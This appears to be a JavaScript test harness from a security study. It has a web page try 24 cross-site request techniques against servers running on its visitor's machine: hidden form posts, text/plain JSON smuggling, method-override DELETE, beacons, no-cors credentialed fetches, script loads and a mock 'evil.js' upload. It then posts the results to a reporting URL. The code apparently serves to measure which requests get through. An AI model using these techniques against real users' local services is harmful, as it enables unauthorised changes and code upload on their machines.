// What a page of another site does to servers on its visitor's machine (rows C2 to C5).
const results = {};
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
function within(promise, ms) {
  return Promise.race([promise, wait(ms).then(() => "silence")]);
}
async function attempt(name, work) {
  try { results[name] = String(await within(work(), 4000)); }
  catch (error) { results[name] = "refused " + error.name; }
}
function element(tag, attributes) {
  return new Promise((done) => {
    const it = document.createElement(tag);
    it.onload = () => done("loaded");
    it.onerror = () => done("refused");
    Object.assign(it, attributes);
    document.body.append(it);
  });
}
function frame(prepare) {
  return new Promise((done) => {
    const it = document.createElement("iframe");
    it.name = "f" + Math.random();
    document.body.append(it);
    it.onload = () => done("loaded");
    prepare(it);
  });
}
function form(url, attributes, fields) {
  return frame((target) => {
    const it = document.createElement("form");
    Object.assign(it, { action: url, method: "POST", target: target.name }, attributes);
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name, value });
      it.append(input);
    }
    document.body.append(it);
    it.submit();
  });
}
async function read(url, init) {
  const answer = await fetch(url, init);
  if (answer.type === "opaque") return "opaque";
  return "read " + answer.status + " " + (await answer.text());
}
function socket(url) {
  return new Promise((done) => {
    const it = new WebSocket(url);
    it.onopen = () => done("opened");
    it.onerror = () => done("refused");
  });
}
function events(url) {
  return new Promise((done) => {
    const it = new EventSource(url);
    it.onopen = () => { it.close(); done("opened"); };
    it.onerror = () => { it.close(); done("refused"); };
  });
}
function xhr(method, url, headers, body) {
  return new Promise((done) => {
    const it = new XMLHttpRequest();
    it.open(method, url);
    for (const [name, value] of Object.entries(headers)) it.setRequestHeader(name, value);
    it.onload = () => done("read " + it.status);
    it.onerror = () => done("refused");
    it.send(body);
  });
}
// 24 ways in which a page makes its visitor's browser ask another server for something
async function attack(label, url) {
  const at = (n) => url + (url.includes("?") ? "&" : "?") + "way=" + n;
  const json = { "content-type": "application/json" };
  const body = JSON.stringify({ name: "evil", slug: "evil" });
  const file = new FormData();
  file.append("script", new Blob(["export default {}"]), "evil.js");
  file.append("metadata", body);
  const post = { method: "POST", mode: "no-cors" };
  const quoted = { '{"name":"evil","x":"': '"}' };
  const fields = new URLSearchParams({ a: "b" });
  const beacon = async (n, data) => {
    navigator.sendBeacon(at(n), data);
    await wait(300);
    return "sent";
  };
  const boxed = (it) => Object.assign(it, { sandbox: "allow-scripts", src: at("sandboxed") });
  const override = { "x-http-method-override": "DELETE" };
  const multipart = { enctype: "multipart/form-data" };
  const silent = { ...post, body, referrerPolicy: "no-referrer" };
  const ways = {
    form: () => form(at("form"), {}, { name: "evil" }),
    form_text: () => form(at("form_text"), { enctype: "text/plain" }, quoted),
    form_multipart: () => form(at("form_multipart"), multipart, { metadata: body }),
    form_get: () => form(at("form_get"), { method: "GET" }, { name: "evil" }),
    form_override: () => form(at("form_override"), {}, { _method: "DELETE" }),
    beacon: () => beacon("beacon", body),
    beacon_file: () => beacon("beacon_file", file),
    no_cors_text: () => read(at("no_cors_text"), { ...post, body }),
    no_cors_form: () => read(at("no_cors_form"), { ...post, body: fields }),
    no_cors_file: () => read(at("no_cors_file"), { ...post, body: file }),
    no_cors_kept: () => read(at("no_cors_kept"), { ...post, body, keepalive: true }),
    no_cors_secret: () => read(at("no_cors_secret"), { mode: "no-cors", credentials: "include" }),
    no_referrer: () => read(at("no_referrer"), silent),
    img: () => element("img", { src: at("img") }),
    script: () => element("script", { src: at("script") }),
    style: () => element("link", { rel: "stylesheet", href: at("style") }),
    iframe: () => frame((it) => { it.src = at("iframe"); }),
    sandboxed: () => frame(boxed),
    object: () => element("object", { data: at("object") }),
    cors_get: () => read(at("cors_get")),
    cors_json: () => read(at("cors_json"), { method: "POST", headers: json, body }),
    cors_delete: () => read(at("cors_delete"), { method: "DELETE" }),
    xhr_override: () => xhr("POST", at("xhr_override"), override, body),
    events: () => events(at("events")),
  };
  await Promise.all(Object.entries(ways).map(([name, work]) => attempt(label + " " + name, work)));
}
async function report(to) {
  await fetch(to, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
}
